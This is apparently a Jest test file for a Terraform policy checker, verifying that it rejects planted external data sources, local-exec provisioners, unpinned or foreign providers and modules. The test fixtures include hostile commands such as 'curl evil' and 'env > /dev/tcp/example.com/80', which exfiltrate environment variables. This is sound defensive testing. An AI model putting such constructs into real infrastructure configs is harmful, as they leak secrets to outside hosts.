import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { planStacks } from '../scripts/lib/plan-ci';
import { PolicyCheckError, assertStackPolicy, checkTerraformConfig, normalizeProviderSource } from '../scripts/lib/policy-check';
import { synthApp } from '../scripts/lib/synth';

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

describe('the policy check of a synthesized stack', () => {
  let workDir: string;
  let devDir: string;
  let dev: Json;

  beforeAll(() => {
    workDir = mkdtempSync(path.join(os.tmpdir(), 'vod-policy-'));
    synthApp(path.join(workDir, 'cdktf.out'), { PIPELINE_ENVIRONMENTS: 'dev,local', TF_STATE_BUCKET: 'my-state-bucket' });
    devDir = path.join(workDir, 'cdktf.out', 'stacks', 'vod-dev');
    dev = JSON.parse(readFileSync(path.join(devDir, 'cdk.tf.json'), 'utf8')) as Json;
  }, 60_000);
  afterAll(() => rmSync(workDir, { recursive: true, force: true }));

  it.each(['vod-dev', 'vod-local', 'state'])('passes our own %s stack', (stack) => {
    expect(() => assertStackPolicy(path.join(workDir, 'cdktf.out', 'stacks', stack))).not.toThrow();
  });

  const BAD: ReadonlyArray<readonly [string, (c: Json) => void, string, RegExp]> = [
    ['an external data source', (c) => (c.data.external = { x: { program: ['sh', '-c', 'env'] } }), 'data.external.x', /runs a program/],
    [
      'a local-exec provisioner',
      (c) => {
        const [type, instances] = Object.entries(c.resource as Json)[0]!;
        const name = Object.keys(instances as Json)[0]!;
        c.resource[type][name].provisioner = [{ 'local-exec': { command: 'curl evil' } }];
        c.__address = `${type}.${name}`;
      },
      '',
      /provisioners are not allowed \(local-exec\)/,
    ],
    [
      'another provider',
      (c) => (c.terraform.required_providers.http = { source: 'hashicorp/http', version: '3.4.0' }),
      'terraform.required_providers.http',
      /registry.terraform.io\/hashicorp\/http is not allowed/,
    ],
    [
      'an unpinned aws provider',
      (c) => (c.terraform.required_providers.aws.version = '>= 5.0'),
      'terraform.required_providers.aws',
      /not an exact pin/,
    ],
    ['a module', (c) => (c.module = { m: { source: 'git::https://example.com/m.git' } }), 'module.m', /modules are not allowed/],
    ['a resource of an undeclared provider', (c) => (c.resource.null_resource = { n: {} }), 'null_resource.n', /provider "null"/],
    [
      'an http backend',
      (c) => (c.terraform.backend = { http: { address: 'https://example.com' } }),
      'terraform.backend.http',
      /not allowed/,
    ],
  ];

  it.each(BAD)('fails on %s, naming its address', (_what, mutate, address, message) => {
    // Prepare
    const config = structuredClone(dev);
    mutate(config);

    // Act
    const violations = checkTerraformConfig(config);

    // Assess
    expect(violations).toEqual([{ address: address || config.__address, message: expect.stringMatching(message) }]);
  });

  it('fails on an extra file terraform would load, and on a lock file naming another provider', () => {
    // Prepare
    const dir = path.join(workDir, 'planted');
    cpSync(devDir, dir, { recursive: true });
    writeFileSync(path.join(dir, 'extra_override.tf.json'), '{"data":{"external":{"x":{"program":["env"]}}}}');
    writeFileSync(path.join(dir, '.terraform.lock.hcl'), 'provider "registry.terraform.io/hashicorp/external" {\n  version = "2.3.4"\n}\n');

    // Act
    const act = () => assertStackPolicy(dir);

    // Assess
    expect(act).toThrow(PolicyCheckError);
    expect(act).toThrow(/extra_override\.tf\.json: terraform would load this file too/);
    expect(act).toThrow(/\.terraform\.lock\.hcl provider "registry\.terraform\.io\/hashicorp\/external": provider is not allowed/);
  });

  it('plan:ci runs it before terraform: a planted external data source stops the plan with its address', async () => {
    // Prepare
    const synthDir = path.join(workDir, 'planted-app');
    cpSync(path.join(workDir, 'cdktf.out'), synthDir, { recursive: true });
    const file = path.join(synthDir, 'stacks', 'vod-dev', 'cdk.tf.json');
    const config = JSON.parse(readFileSync(file, 'utf8')) as Json;
    config.data.external = { steal: { program: ['sh', '-c', 'env > /dev/tcp/example.com/80'] } };
    writeFileSync(file, JSON.stringify(config));

    // Act: cliConfig '' and no terraform on PATH would fail differently, so the error proves terraform never ran.
    const plan = planStacks({
      stacks: ['vod-dev'],
      synthDir,
      outDir: path.join(workDir, 'plan-out'),
      cliConfig: '',
      env: { PATH: '/nonexistent' },
    });

    // Assess
    await expect(plan).rejects.toThrow(PolicyCheckError);
    await expect(plan).rejects.toThrow(/data\.external\.steal: the external data source runs a program during plan/);
  });

  it.each([
    ['aws', 'registry.terraform.io/hashicorp/aws'],
    ['hashicorp/archive', 'registry.terraform.io/hashicorp/archive'],
    ['registry.terraform.io/HashiCorp/aws', 'registry.terraform.io/hashicorp/aws'],
    ['evil.example.com/hashicorp/aws', 'evil.example.com/hashicorp/aws'],
  ])('provider source %s is %s', (source, expected) => {
    expect(normalizeProviderSource(source)).toBe(expected);
  });
});
